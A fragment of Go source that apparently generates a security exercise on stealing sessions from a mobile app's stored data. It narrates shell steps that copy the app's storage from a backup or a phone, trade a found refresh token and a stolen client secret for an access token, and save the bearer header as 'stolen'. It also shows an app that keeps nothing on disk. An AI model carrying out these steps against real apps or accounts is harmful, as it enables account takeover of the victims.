		say("Trade the refresh token for an access token, as the app would: `{fetch} -u \"harbour-mobile:$(cat loot/secret)\" -d grant_type=refresh_token --data-urlencode \"refresh_token=$(cat "+file+")\" {auth}/token > token.json`."),
		say("Keep the field that stands for the victim: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > stolen.txt`."),
	)
}

// backup is a copy of what the victim's app stores.
var backup = slices.Concat(
	passwordOf("alice"),
	say("The victim signs in on her phone: `mobileclient --phone lost-{stage} --stage {stage} sign-in --user alice --password-file alice.txt`."),
	say("Get a copy of what the app stores there: a backup on a laptop or in a cloud, or the phone itself on a repairer's desk: `cp -R {storage} backup`. The files are JSON."),
)

// nothingStored is where the app keeps its user in memory only.
var nothingStored = say("Search it for what stands for the victim: `grep -r -c . backup`. Nothing does, as the app keeps it in its memory only.").at(forgetsUsers)
